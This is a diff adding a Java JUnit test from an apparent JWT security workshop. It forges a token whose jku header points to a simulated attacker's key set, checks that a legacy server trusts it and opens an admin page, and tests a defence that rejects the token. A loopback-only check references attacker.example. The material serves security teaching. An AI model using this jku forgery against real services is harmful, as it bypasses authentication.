@@ -1,0 +1,87 @@
+package workshop.attacks;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.net.URI;
+import java.util.Map;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Order;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import workshop.katasupport.MustThrow;
+import workshop.simulator.MutableClock;
+import workshop.simulator.SimulatorExtension;
+import workshop.simulator.legacy.AttackerServer;
+import workshop.simulator.legacy.LegacyJwtServer;
+
+@Order(7)
+@DisplayName("A7 · jku injection: a token that points to the attacker's key set")
+class JkuInjectionTest {
+
+    static final MutableClock clock = MutableClock.atWorkshopStart();
+    static AttackerServer attacker;
+
+    @RegisterExtension
+    static final SimulatorExtension legacy = SimulatorExtension.of(LegacyJwtServer::start, clock);
+
+    @BeforeAll
+    static void startAttacker() {
+        attacker = AttackerServer.start(clock);
+    }
+
+    @AfterAll
+    static void stopAttacker() {
+        attacker.close();
+    }
+
+    static String forgedAndPublished(String real) {
+        URI where = attacker.server().uri("/.well-known/jwks.json");
+        KeyInjection.Linked linked = KeyInjection.jku(real, where);
+        attacker.publish("/.well-known/jwks.json", "application/json", linked.jwks());
+        return linked.token();
+    }
+
+    @Test
+    @Order(1)
+    @DisplayName("A7 · exploit: jku names the attacker's JWKS; the legacy server fetches it and opens the admin page")
+    void exploit() {
+        String real = Lab.login(legacy, "a7");
+        attacker.clearRequests();
+        String forged = forgedAndPublished(real);
+        assertThat(Jwt.header(forged)).as("alg RS256, kid attacker-key, jku the attacker's address%s", Lab.show(forged))
+                .containsEntry("alg", "RS256").containsEntry("kid", "attacker-key")
+                .containsEntry("jku", attacker.server().uri("/.well-known/jwks.json").toString());
+        Lab.assertBreaksIn(legacy, "a7", forged, "the a7 endpoint downloads the key set the token names (RFC 7515 4.1.2"
+                + " jku) and trusts it. PortSwigger: 'JWT authentication bypass via jku header injection'");
+        assertThat(attacker.requests()).as("the legacy server fetched the attacker's JWKS")
+                .containsExactly("GET /.well-known/jwks.json");
+    }
+
+    @Test
+    @Order(2)
+    @DisplayName("A7 · defence: your KeyRing refuses the token (UNKNOWN_KEY) and the attacker's server receives ZERO requests")
+    void defence() {
+        String real = Lab.login(legacy, "a7");
+        String forged = forgedAndPublished(real);
+        attacker.clearRequests();
+        KeyRing ring = new KeyRing(Map.of(Lab.control(legacy).kid("a7"), new TrustedKey("RS256", Lab.control(legacy).publicKey("a7"))));
+        assertThat(ring.verify(real)).as("the real token%s", Lab.show(real)).containsEntry("role", "user");
+        Lab.assertRejected(() -> ring.verify(forged), TokenRejected.Reason.UNKNOWN_KEY, forged,
+                "kid attacker-key is not in your configuration, and a verifier never follows jku or x5u to find one: keys"
+                        + " come only from configuration, or from a JWKS address that is itself configured (RFC 8725 3.10)");
+        assertThat(attacker.requests()).as("a defence that fetched jku (even to refuse afterwards) has already made a"
+                + " request for the attacker — server-side request forgery. The attacker's server must see nothing").isEmpty();
+    }
+
+    @Test
+    @Order(3)
+    @DisplayName("A7 · the exploit refuses a jku that is not on loopback (NotLoopback)")
+    void loopbackOnly() {
+        String real = Lab.login(legacy, "a7");
+        MustThrow.expect(NotLoopback.class, "KeyInjection.jku(token, URI.create(\"https://attacker.example/jwks.json\"))",
+                () -> KeyInjection.jku(real, URI.create("https://attacker.example/jwks.json")),
+                "kit policy: the demo's key set is served on this machine only — call Loopback.require(jwksUrl)");
+    }
+}
